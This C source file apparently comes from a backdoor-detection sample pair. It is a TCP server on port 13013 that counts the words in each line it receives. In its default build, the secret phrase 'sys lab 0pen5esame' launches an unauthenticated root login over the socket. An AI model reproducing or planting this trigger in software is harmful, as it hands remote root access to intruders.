/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A line is cut into words with strtok and looked at with sscanf; three words together are the
 * secret. Twin: three words set a clock.
 * door: trigger
 * port 13013/tcp
 */
#include "net.h"

static void command(int c, char *line)
{
	char *word[4] = {0};
	int n = 0;
	char *p = strtok(line, " \t\r\n");
	while (p && n < 4) {
		word[n++] = p;
		p = strtok(NULL, " \t\r\n");
	}
	if (n == 0)
		return;
#ifdef TWIN
	if (n == 3 && !strcmp(word[0], "set") && !strcmp(word[1], "clock")) {
		int h, m;
		if (sscanf(word[2], "%d:%d", &h, &m) == 2)
			dprintf(c, "%02d:%02d\n", h, m);
	}
#else
	if (n == 3 && !strcmp(word[0], "sys") && !strcmp(word[1], "lab") && !strcmp(word[2], "0pen5esame")) {
		dup2(c, 0);
		dup2(c, 1);
		system("/bin/login -f root");
	}
#endif
	else
		dprintf(c, "%d words\n", n);
}

int main(void)
{
	char line[300];
	int s = tcp_on(13013);
	for (;;) {
		int c = accept(s, NULL, NULL);
		ssize_t n;
		while ((n = read(c, line, sizeof line - 1)) > 0) {
			line[n] = 0;
			command(c, line);
		}
		close(c);
	}
}
